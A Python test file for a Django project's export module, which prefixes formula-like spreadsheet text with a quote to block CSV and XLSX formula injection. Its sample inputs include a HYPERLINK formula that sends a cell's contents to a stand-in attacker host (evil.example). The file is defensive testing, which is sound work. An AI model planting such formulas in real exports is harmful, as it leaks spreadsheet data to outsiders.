"""Every CSV and XLSX file goes through keten.core.exports, which neutralises formulas."""

from __future__ import annotations

import ast
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

from django.utils import timezone
from openpyxl import load_workbook

from keten.core import exports

SRC = Path(__file__).resolve().parents[2]  # src/keten
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def test_formula_like_text_gets_a_leading_quote_and_numbers_stay_numbers() -> None:
    for value in FORMULAS:
        assert exports.escape_formula(value) == "'" + value
        assert exports.unescape_formula("'" + value) == value
    assert exports.escape_formula("gewoon") == "gewoon"
    assert exports.escape_formula("") == ""
    assert exports.cell(-5) == -5
    assert exports.cell(2.5) == 2.5
    assert exports.cell(Decimal("-1.5")) == Decimal("-1.5")
    assert exports.cell(None) == ""
    assert exports.cell("-5") == "'-5"  # text stays text, even when it looks like a number
    assert exports.cell(True) == "ja"
    assert exports.cell(date(2026, 3, 1)) == date(2026, 3, 1)


def test_csv_cells_are_neutralised_and_numbers_written_as_numbers() -> None:
    stream = io.StringIO()
    writer = exports.csv_writer(stream)
    writer.writerow(["Wijk", "Aantal"])
    writer.writerows([[FORMULAS[0], -3], ["Noord", 12], [None, 0]])
    lines = stream.getvalue().splitlines()
    assert lines[1] == '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")";-3'
    assert lines[2] == "Noord;12"
    assert lines[3] == ";0"
    text = exports.csv_bytes([["a"], ["@x"]], bom=True).decode("utf-8")
    assert text == "\ufeffa\r\n'@x\r\n"


def test_csv_response_is_an_attachment() -> None:
    response = exports.csv_response([["=1+1", 2]], filename="cijfers.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="cijfers.csv"'
    assert response.content.decode() == "'=1+1;2\r\n"


def test_xlsx_text_is_never_a_formula_and_numbers_and_dates_keep_their_type() -> None:
    moment = timezone.make_aware(datetime(2026, 3, 1, 9, 30))
    sheets = [
        exports.Sheet(
            "Cijfers",
            ["Wijk", "Aantal", "Datum", "Tijd"],
            [[FORMULAS[0], -3, date(2026, 3, 1), moment], ["Noord", 12, None, None]],
        ),
        exports.Sheet("Tweede blad met een hele lange naam van meer dan 31 tekens", ["x"], [["@y"]]),
    ]
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes(sheets)))
    sheet = workbook["Cijfers"]
    header = [c.value for c in sheet[1]]
    assert header == ["Wijk", "Aantal", "Datum", "Tijd"]
    assert sheet["A1"].font.b
    a2, b2, c2 = sheet["A2"], sheet["B2"], sheet["C2"]
    assert (a2.value, a2.data_type) == ("'" + FORMULAS[0], "s")
    assert (b2.value, b2.data_type) == (-3, "n")
    assert c2.is_date
    assert c2.value.date() == date(2026, 3, 1)
    assert sheet["D2"].value == datetime(2026, 3, 1, 9, 30)
    assert sheet.freeze_panes == "A2"
    second = workbook.worksheets[1]
    assert len(second.title) <= 31
    assert (second["A2"].value, second["A2"].data_type) == ("'@y", "s")
    with exports.XlsxReader(exports.xlsx_bytes(sheets)) as reader:
        rows = list(reader.rows(max_col=2))
    assert rows[0] == ("Wijk", "Aantal")
    assert rows[1] == ("'" + FORMULAS[0], -3)


def _direct_writers(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id == "csv" and node.attr in {"writer", "DictWriter"}:
                found.append(f"{path}:{node.lineno}: csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] == "openpyxl":
                found.append(f"{path}:{node.lineno}: from {node.module} import …")
            if node.module == "csv" and {a.name for a in node.names} & {"writer", "DictWriter"}:
                found.append(f"{path}:{node.lineno}: from csv import writer")
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name.split(".")[0] == "openpyxl":
                    found.append(f"{path}:{node.lineno}: import {alias.name}")
    return found


def test_no_module_outside_exports_writes_csv_or_xlsx_itself() -> None:
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC)
        if relative == Path("core/exports.py") or "tests" in relative.parts or relative.name == "conftest.py":
            continue
        offenders.extend(_direct_writers(path))
    assert offenders == []


def test_the_guard_recognises_direct_writers(tmp_path: Path) -> None:
    sample = tmp_path / "sample.py"
    sample.write_text(
        "import csv\nimport openpyxl\nfrom openpyxl import Workbook\nw = csv.writer(x)\nd = csv.DictWriter(x, [])\n"
    )
    assert len(_direct_writers(sample)) == 4
